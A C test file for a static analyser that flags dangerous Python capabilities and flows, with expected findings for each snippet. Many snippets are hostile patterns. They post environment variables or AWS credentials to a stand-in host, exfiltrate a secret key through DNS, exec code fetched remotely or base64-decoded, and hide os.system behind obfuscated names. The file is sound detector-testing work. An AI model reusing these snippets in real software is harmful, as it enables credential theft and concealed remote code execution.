/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_python_test.c - what is said of Python code.
 */
#include "behavior_case.h"

#define NOTHING "capability\nflow\naws-call\nendpoint"

static const struct behavior_case cases[] = {
    /* names and aliases */
    { "import os\nos.system('id')\n", "capability process os.system id import line:2", "flow" },
    { "import os as o\no.system('id')\n", "capability process os.system id", "hidden" },
    { "from os import system as s\ns('id')\n", "capability process os.system id", NULL },
    { "from os import *\nsystem('id')\n", "capability process os.system id", NULL },
    { "x = __import__('o' + 's')\nx.system('id')\n",
      "capability process os.system id\ncapability dynamic-import os", NULL },
    { "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
      "capability process os.system id put together\ncapability hidden-name os.system", NULL },
    { "import os\nos.__dict__['po' 'pen']('id')\n", "capability process os.popen id", NULL },
    { "globals()['ev' + 'al']('1')\n", "capability dynamic-code eval\ncapability hidden-name eval",
      NULL },
    { "import sys\nsys.modules['os'].system('id')\n", "capability process os.system", NULL },
    { "import importlib\nimportlib.import_module('subp' + 'rocess').call('id')\n",
      "capability process subprocess.call\ncapability dynamic-import subprocess", NULL },
    { "import os\nf = os.system\ndef g(x):\n    return x('id')\ng(f)\n",
      "capability process os.system import", NULL },
    { "import functools, os\nfunctools.partial(os.system, 'id')()\n",
      "capability process os.system id", NULL },
    /* another function in the place of a module's */
    { "import socket\ndef f(x): pass\nvars(socket).update(socket=f)\n",
      "capability patch-network socket.socket", NULL },
    { "import socket\ndef f(x): pass\nsocket.__dict__.update({'socket': f})\n",
      "capability patch-network socket.socket", NULL },
    { "import socket\ndef f(x): pass\nsocket.__dict__ |= {'socket': f}\n",
      "capability patch-network socket.socket", NULL },
    { "import socket\ndef f(x): pass\nvars(socket).setdefault('socket', f)\n",
      "capability patch-network socket.socket", NULL },
    { "import acme\ndef f(x): pass\nacme.table.update(socket=f)\nvars(acme).get('a')\n", NULL,
      "patch" },
    /* lines, names and bytes as Python reads them */
    { "# note\rimport os\ros.system('id')\r", "capability process os.system id line:3", NULL },
    { "x = 1\n\fimport os\nos.system('id')\n", "capability process os.system id line:3", NULL },
    { "import os\nos.\xef\xbd\x93ystem('id')\n",
      "capability process os.system id\ncapability hidden-name os.system", NULL },
    { "import \xf0\x9d\x93\xb8s as o\no.system('id')\n", "capability process os.system id", NULL },
    { "\xe2\x85\x87val('1')\n", "capability dynamic-code eval\ncapability hidden-name eval", NULL },
    { "import os, codecs\nos.system(b'\\xe9\\x69d'[1:].decode())\n",
      "capability process os.system id", NULL },
    { "import os\ngetattr(os, '\\N{LATIN SMALL LETTER S}ystem')('id')\n",
      "capability process os.system id", NULL },
    /* classes */
    { "import http.client as h\nclass C(h.HTTPSConnection):\n    pass\nc = C('a.invalid')\n"
      "c.request('GET', '/')\n",
      "capability network http.client.HTTPSConnection a.invalid", NULL },
    { "import socket\nclass B(socket.socket): pass\nclass C(B):\n    def go(self):\n"
      "        super().connect(('a.invalid', 80))\nC().go()\n",
      "capability network connect a.invalid", NULL },
    { "from .packages.six.moves.http_client import HTTPSConnection\nimport os\n"
      "HTTPSConnection('a.invalid').request('POST', '/', str(os.environ))\n",
      "flow env-all network", NULL },
    { "import os\nfrom .pools import pool\npool.request('POST', '/', str(dict(os.environ)))\n",
      "flow env-all network", NULL },
    { "import os\nfrom .config import settings\nsettings.update(dict(os.environ))\n",
      "capability env-all", "flow" },
    /* texts that are put together */
    { "import requests\nrequests.get('ht' + 'tps://' + 'a.example' + '.com')\n",
      "capability network requests.get https://a.example.com\nendpoint https://a.example.com",
      NULL },
    { "import socket\ns = socket.socket()\ns.connect((''.join(chr(c) for c in "
      "[97,46,105,110,118,97,108,105,100]), 80))\n",
      "capability network connect a.invalid", NULL },
    { "import requests\nrequests.get('dilavni.a//:ptth'[::-1])\n", "endpoint http://a.invalid",
      NULL },
    { "import requests\nrequests.get(''.join(reversed('dilavni.a//:ptth')))\n",
      "endpoint http://a.invalid", NULL },
    { "import requests\nrequests.get('%s://%s' % ('http', 'a.' 'invalid'))\n",
      "endpoint http://a.invalid", NULL },
    { "import requests\nrequests.get('{}://{h}'.format('http', h='a.' + 'invalid'))\n",
      "endpoint http://a.invalid", NULL },
    { "import requests\nh='inva'\nrequests.get(f'http://a.{h}lid')\n", "endpoint http://a.invalid",
      NULL },
    { "import requests\nrequests.get('\\x68ttp://\\u0061.inv' 'alid')\n",
      "endpoint http://a.invalid", NULL },
    { "import requests, "
      "base64\nrequests.get(base64.b64decode('aHR0cDovL2EuaW52YWxpZA==').decode())\n",
      "endpoint http://a.invalid\ncapability decode base64.b64decode", NULL },
    { "import requests\nrequests.get(bytes.fromhex('687474703a2f2f612e696e76616c6964').decode())\n",
      "endpoint http://a.invalid", NULL },
    { "import requests\nk=b'jvvr8--c,klt' b'cnkf'\nrequests.get(bytes(c ^ 2 for c in "
      "k).decode())\n",
      "endpoint http://", NULL },
    { "import requests\nu=''\nfor c in [104,116,116,112,58,47,47,97,46,98,101]:\n    u += chr(c)\n"
      "requests.get(u)\n",
      "endpoint http://a.be", NULL },
    { "import requests, codecs\nrequests.get(codecs.decode('uggc://n.vainyvq', 'rot13'))\n",
      "endpoint http://a.invalid", NULL },
    /* code that is decoded, and what it does */
    { "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))\n",
      "capability decode-run exec import\nflow decode eval\n"
      "capability process os.system id is run as code",
      NULL },
    { "import zlib, base64\nexec(zlib.decompress(base64.b64decode(data)))\n",
      "capability decode-run exec", NULL },
    { "import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))\n",
      "capability decode-run exec\ncapability dynamic-code marshal.loads", NULL },
    { "exec(''.join(chr(c ^ 7) for c in data))\n", "capability decode-run exec", NULL },
    { "import base64\nc = compile(base64.b64decode(x), '', 'exec')\nexec(c)\n",
      "capability decode-run", NULL },
    /* the environment */
    { "import os\nx = os.environ['HOME']\n", "capability env-read os.environ HOME import",
      "env-all" },
    { "import os\ndef f():\n    return os.getenv('A')\n", "capability env-read A call", "import" },
    { "import os\nprint(dict(os.environ))\n", "capability env-all os.environ", NULL },
    { "from os import environ\nfor k, v in environ.items():\n    print(k)\n", "capability env-all",
      NULL },
    { "import os\nos.environ['X'] = '1'\n", "capability env-write X=1", "env-read" },
    { "import os\ndel os.environ['X']\n", "capability env-write X", NULL },
    { "import os\nos.environ.update(A='1')\n", "capability env-write", "env-all" },
    { "import os\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n",
      "capability credentials AWS_SECRET_ACCESS_KEY", NULL },
    { "open('/proc/self/environ').read()\n", "capability credentials /proc/self/environ", NULL },
    { "u = 'http://169.254.170.2' + path\n", "capability metadata 169.254.170.2", NULL },
    { "import urllib.request as r\nr.urlopen('http://' + api + '/2020-01-01/extension/register')\n",
      "capability extensions-api\ncapability network urlopen", NULL },
    { "import boto3\nc = boto3.Session().get_credentials()\n", "capability credentials", NULL },
    /* settings */
    { "import hmac\ndef f(a, b):\n    return hmac.compare_digest(a[:4], b[:4])\n",
      "capability weakened", NULL },
    { "import hmac\ndef f(a, b):\n    return hmac.compare_digest(a, b)\n", NULL,
      "capability weakened" },
    { "import boto3\nboto3.client('s3', endpoint_url='https://a.invalid')\n",
      "capability aws-elsewhere endpoint", NULL },
    { "import boto3\nboto3.client('s3', endpoint_url='https://evilamazonaws.com')\n",
      "capability aws-elsewhere", NULL },
    { "import boto3\nboto3.client('s3', endpoint_url='http://localhost:4566')\n", NULL,
      "capability aws-elsewhere" },
    { "import os\nfrom .api import call\ncall('POST', '/p', dict(os.environ))\n",
      "flow env-all function", NULL },
    { "import urllib3\nurllib3.PoolManager(cert_reqs='CERT_NONE')\n", "capability tls-unverified",
      NULL },
    { "import urllib3\nurllib3.PoolManager(cert_reqs='CERT_REQUIRED')\n", NULL,
      "capability tls-unverified" },
    { "import os\nos.environ.update({'HTTPS_' + 'PROXY': 'http://a.invalid'})\n",
      "capability redirect HTTPS_PROXY", NULL },
    { "import sys\nsys.path.insert(0, '/tmp/x')\n", "capability redirect sys.path.insert", NULL },
    { "import sys\nsys.path.insert(0, '/opt/x')\n", "capability module-path",
      "capability redirect" },
    /* who decides what is run */
    { "import os\nexec(os.environ['X'])\n", "flow env-read eval exec", NULL },
    { "import os\ndef handler(event, context):\n    os.system(event['c'])\n",
      "flow event command os.system", NULL },
    { "import os, subprocess\nsubprocess.run(['git', '-C', os.environ['D']])\n",
      "flow env-read process", "flow env-read command\nflow env-read program" },
    { "import importlib\ndef handler(event, context):\n"
      "    return getattr(importlib.import_module(event['m']), event['f'])()\n",
      "flow event eval", NULL },
    { "import importlib\ndef load(name):\n    return importlib.import_module(name).register()\n",
      "capability dynamic-import", "capability dynamic-code" },
    { "import os\ndef handler(event, context):\n    return {'env': dict(os.environ)}\n",
      "flow env-all response", NULL },
    { "import os\nprint({k: os.environ[k] for k in os.environ})\n", "flow env-all log", NULL },
    { "import os\nprint(os.environ['HOME'])\n", "capability env-read", "flow" },
    { "import runpy\nrunpy.run_path('a/b.json')\n", "flow data-file eval", NULL },
    { "import runpy\nrunpy.run_path('a/b.py')\n", "capability dynamic-code", "flow" },
    { "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader)\n", NULL,
      "capability dynamic-code" },
    { "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.UnsafeLoader)\n",
      "capability dynamic-code", NULL },
    { "import sys\ndef f(p):\n    sys.setprofile(p)\n", "capability watch",
      "capability patch-loader" },
    /* flows */
    { "import os, requests\nrequests.post('http://a.invalid', json=dict(os.environ))\n",
      "flow env-all network requests.post import", NULL },
    { "import os, requests, json\ndef collect():\n    return {k: v for k, v in "
      "os.environ.items()}\n"
      "def send(d):\n    requests.post('http://a.invalid', data=json.dumps(d))\n"
      "def handler(event, context):\n    send(collect())\n",
      "flow env-all network call", "flow import" },
    { "import os, subprocess\nt = os.environ['AWS_SESSION_TOKEN']\n"
      "subprocess.run(['curl', '-d', t, 'http://a.invalid'])\n",
      "flow credentials process subprocess.run\ncapability network curl", NULL },
    { "import os, socket\nt = os.environ['AWS_SECRET_ACCESS_KEY']\n"
      "socket.gethostbyname(t.lower() + '.a.invalid')\n",
      "flow credentials dns", NULL },
    { "import requests\nd = open('/root/.aws/credentials').read()\n"
      "requests.put('http://a.invalid', data=d)\n",
      "flow secret network", NULL },
    { "import requests\nexec(requests.get('http://a.invalid').text)\n", "flow network eval exec",
      NULL },
    { "import urllib.request\nd = urllib.request.urlopen('http://a.invalid').read()\n"
      "with open('/tmp/x', 'wb') as f:\n    f.write(d)\n",
      "flow network file\ncapability file-write /tmp/x", NULL },
    { "import os, boto3\nboto3.client('s3').put_object(Bucket='b', Body=str(dict(os.environ)))\n",
      "flow env-all aws-call\naws-call s3 PutObject", NULL },
    { "class A:\n    def __init__(self):\n        import os\n        self.e = dict(os.environ)\n"
      "    def go(self):\n        import requests\n        requests.post('http://a.invalid', "
      "self.e)\n",
      "flow env-all network", NULL },
    { "import os, subprocess\nsubprocess.run(['ls'], env=os.environ)\n", "capability process ls",
      "flow\nenv-all" },
    { "import os\nos.posix_spawnp('ls', ['ls'], os.environ)\nos.execve('ls', ['ls'], os.environ)\n",
      "capability process os.posix_spawnp", "flow" },
    { "import os\nos.posix_spawnp('ls', ['ls', str(os.environ)], {})\n", "flow env-all process",
      NULL },
    { "import threading, os, requests\ndef f(d):\n    requests.post('http://a.invalid', data=d)\n"
      "threading.Thread(target=f, args=(dict(os.environ),)).start()\n",
      "flow env-all network import", NULL },
    /* AWS */
    { "import boto3\nclass A:\n    def __init__(self):\n        self.c = boto3.client('sts')\n"
      "    def f(self):\n        return self.c.assume_role(RoleArn='x')\n",
      "aws-call sts AssumeRole", NULL },
    { "import boto3\nboto3.resource('s3').Object('a', 'b').put(Body='x')\n", "aws-call s3 Put",
      NULL },
    { "import boto3\nfor p in boto3.client('iam').get_paginator('list_users').paginate():\n    "
      "pass\n",
      "aws-call iam ListUsers", "GetPaginator\nPaginate" },
    /* patches */
    { "import botocore.client\nbotocore.client.BaseClient._make_api_call = lambda *a: None\n",
      "capability patch-sdk botocore.client.BaseClient._make_api_call", NULL },
    { "import botocore.client\nsetattr(botocore.client.BaseClient, '_make_' + 'api_call', f)\n",
      "capability patch-sdk _make_api_call", NULL },
    { "import sys\nsys.meta_path.insert(0, F())\n", "capability patch-loader sys.meta_path", NULL },
    { "import builtins\ndef f(*a): pass\nbuiltins.__import__ = f\n", "capability patch", NULL },
    { "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n",
      "capability tls-unverified", NULL },
    { "import requests\nrequests.get('https://a.invalid', verify=False)\n",
      "capability tls-unverified", NULL },
    /* other powers */
    { "import ctypes\nctypes.CDLL('./x.so')\n", "capability native-load x.so", NULL },
    { "import os\nos.system('pip install x')\n", "capability package-manager pip", NULL },
    { "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', "
      "'x'])\n",
      "capability process\ncapability package-manager", NULL },
    { "import sys\nsys.path.insert(0, '/tmp')\n", "capability module-path", NULL },
    { "if __name__ == '__main__':\n    import os\n    os.system('id')\n", "process call",
      "process import" },
    { "import inspect\ndef f(g):\n    return inspect.get_annotations(g, eval_str=True)\n",
      "capability dynamic-code eval_str", NULL },
    { "import inspect\ndef f(g):\n    return inspect.get_annotations(g, eval_str=False)\n", NULL,
      "capability" },
    { "import time\ndef handler(event, context):\n    time.sleep(ord(event['x'][0]) & 1)\n",
      "flow event wait sleep", NULL },
    { "import time\ndef handler(event, context):\n    time.sleep(1)\n", NULL, "flow" },
    { "import urllib3\np = urllib3.PoolManager()\ndef call(body):\n"
      "    p.request('POST', 'https://a.invalid', body=body)\ndef audit(event):\n    call(event)\n",
      "flow event network", NULL },
    /* what is nothing */
    { "import re\nre.compile('x')\nx = [1]\nx.append(2)\n", NULL, NOTHING },
    { "\"\"\"os.system('id') requests.get http://169.254.169.254/\"\"\"\n# eval(exec)\n", NULL,
      NOTHING },
    { "class C:\n    def get(self, a):\n        return getattr(self, a)\n    def exec(self): pass\n"
      "C().exec()\n",
      NULL, NOTHING },
    { "def f(requests):\n    requests.get('x')\n", NULL, NOTHING },
    { "import os\nprint(os.path.join('a', 'b'), os.getcwd())\n", NULL, NOTHING },
    { "import json\nd = json.loads('{}')\nd.get('x')\n", NULL, NOTHING },
    { "import base64\nprint(base64.b64encode(b'x'))\n", NULL, NOTHING },
};

static void test_cases(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, cases, LW_COUNT(cases));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
